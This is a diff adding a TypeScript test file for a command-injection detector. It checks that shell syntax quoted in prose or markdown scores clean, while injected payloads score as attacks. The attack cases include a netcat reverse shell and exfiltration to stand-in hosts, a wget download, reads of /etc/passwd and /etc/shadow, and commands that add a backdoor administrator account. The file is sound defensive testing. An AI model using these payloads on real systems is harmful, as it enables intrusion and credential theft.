@@ -1,0 +1,87 @@
+import { describe, expect, it } from 'vitest';
+import { InjectionDetector } from '../../src/security/injection-detector.js';
+import { executableMention, fencedBlockEnd, inlineCodeSpan, proseArguments } from '../../src/security/quoted-code.js';
+
+// Code quoted inside prose (a developer's question, a markdown comment) versus the same syntax
+// breaking out of a value. Values written for these tests (not taken from a held-out set).
+const d = new InjectionDetector();
+const score = (v: string) => d.score(v).score;
+
+describe('a command whose arguments are a sentence is quoted, not run', () => {
+  it.each([
+    'ls -la | wc -l gives the wrong count',
+    'top | head shows only the first screen',
+    'find . -name x not finding hidden files?',
+    'tail -f app.log | grep error stops printing after a while',
+    'history | grep docker returns nothing for me',
+    'why does | sort -n put ten before nine',
+    'journalctl | less is slow 2024',
+  ])('clean: %s', (v) => {
+    expect(score(v)).toBe(0);
+  });
+  it.each([
+    '; cat /etc/passwd',
+    '| nc attacker.example 4444 -e /bin/sh',
+    '& net user backdoor secret123 /add',
+    '&& net localgroup administrators eve /add',
+    '; ping -c 10 127.0.0.1',
+    '| id',
+    'x; wget http://evil.example/a.sh -O /tmp/a.sh',
+    'cat /etc/passwd | nc evil.example 80',
+    '| ls -la /home',
+    'ls -la | grep .txt',
+  ])('still an attack: %s', (v) => {
+    expect(score(v)).toBeGreaterThanOrEqual(5);
+  });
+  it('reads plain words, not switches, paths or quoted text', () => {
+    const s = '| grep node shows grep itself';
+    expect(proseArguments(s, s.indexOf('grep') + 4)).toBe(true);
+    const t = '| grep "a b c" /etc/passwd';
+    expect(proseArguments(t, t.indexOf('grep') + 4)).toBe(false);
+    const u = '| net localgroup administrators eve /add';
+    expect(proseArguments(u, u.indexOf('net') + 3)).toBe(false);
+    const w = '| cat the file; id';
+    expect(proseArguments(w, w.indexOf('cat') + 3)).toBe(true);
+  });
+  it('a later separator is still read after a quoted command', () => {
+    expect(score('ps | grep node shows grep itself; cat /etc/shadow')).toBeGreaterThanOrEqual(5);
+  });
+});
+
+describe('markdown code fences and inline code spans delimit quoted code', () => {
+  it.each([
+    'Steps:\n\n```sh\nls -la\nrm -rf build\n```\n\nthen it works',
+    '```\nwhoami\n```',
+    'Try `ls -la` to see the hidden files.',
+    'I ran `cat notes.txt` and `wc -l notes.txt` but got nothing',
+    '```js\nconst a = 1;\nconsole.log(a);\n```\nthanks',
+  ])('clean: %s', (v) => {
+    expect(score(v)).toBe(0);
+  });
+  it.each(['`id`', ';`whoami`', 'a`id`', 'x=`cat /etc/passwd`', '$(`id`)', '```id```', 'hello\n``` ; id', 'name `id`'])('still an attack: %s', (v) => {
+    expect(score(v)).toBeGreaterThanOrEqual(5);
+  });
+  it('finds the fence end and the span close', () => {
+    const f = 'a\n```bash\nls\n```\nb';
+    expect(fencedBlockEnd(f, f.indexOf('`'))).toBe(f.lastIndexOf('\n'));
+    expect(fencedBlockEnd('x```bash\nls\n```', 1)).toBe(-1);
+    expect(fencedBlockEnd('```bash\nls', 0)).toBe(-1);
+    const s = 'run `ls -la` to list';
+    expect(inlineCodeSpan(s, s.indexOf('`'))).toBe(s.lastIndexOf('`'));
+    expect(inlineCodeSpan(';`id`', 1)).toBe(-1);
+  });
+});
+
+describe('cmd.exe named in a sentence is not invoked', () => {
+  it.each(['cmd.exe keeps closing right after it opens', 'powershell.exe uses too much memory on startup', 'cmd.exe how to escape a percent sign'])('clean: %s', (v) => {
+    expect(score(v)).toBe(0);
+  });
+  it.each(['cmd.exe /c whoami', 'x & cmd.exe /c dir', 'powershell.exe -nop -w hidden -c iex(1)', 'c:\\windows\\system32\\cmd.exe', '; cmd.exe', 'cmd.exe&dir'])('still an attack: %s', (v) => {
+    expect(score(v)).toBeGreaterThanOrEqual(5);
+  });
+  it('a switch, a separator or the end is an invocation', () => {
+    expect(executableMention('cmd.exe /c dir', 0, 7)).toBe(false);
+    expect(executableMention('cmd.exe', 0, 7)).toBe(false);
+    expect(executableMention('cmd.exe how to', 0, 7)).toBe(true);
+  });
+});
